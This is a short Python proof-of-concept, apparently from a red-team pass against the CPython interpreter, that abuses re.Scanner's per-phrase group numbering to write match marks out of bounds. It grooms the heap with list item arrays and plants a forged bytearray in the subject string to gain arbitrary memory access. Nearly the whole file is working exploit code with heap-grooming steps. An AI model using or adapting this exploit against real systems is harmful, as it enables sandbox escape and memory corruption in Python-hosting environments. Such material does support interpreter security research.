# technique: re.Scanner parses each phrase with a parser state of its own: a phrase's groups take numbers the combined pattern never counted, and matching writes their marks past the match's mark array, into a list's item array, as pointers into the subject: a fake bytearray (red-team pass 66)
# expect: any
import re
BA_TYPE = 0x1001c80
def q(v): return v.to_bytes(8, "little")
fake = q(1 << 40) + q(BA_TYPE) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0) + q(0)   # 64 bytes
after = q(1 << 40) + q(BA_TYPE) + q(0) * 6    # a harmless object where the group ends (ob_item[1])
subject = b"a" * 14 + b"b" + b"c" + fake + after
# 3 lexicon entries -> the pattern has 3 groups -> state->mark holds 6 pointers (48 bytes);
# the first phrase has 4 groups of its own: MARK 6/7 (group 4) pass _validate (<= 2*groups+1)
# and are written past the 48-byte block
lex = [(rb"(a{14})(b)(c)((?s:.{64}))", None), (rb"x", None), (rb"y", None)]
sc = re.Scanner(lex)
victims = [[None] * 6 for i in range(400)]   # 48-byte item arrays
hole = victims[200]; victims[200] = None; del hole   # the mark array takes this block
sc.scan(subject)
hit = [i for i, v in enumerate(victims) if v is not None and v[0] is not None]
print("victims hit:", hit)
if hit:
    mem = victims[hit[0]][0]
    print(type(mem), len(mem) == 1 << 62, bytes(mem[0x400000:0x400004]))
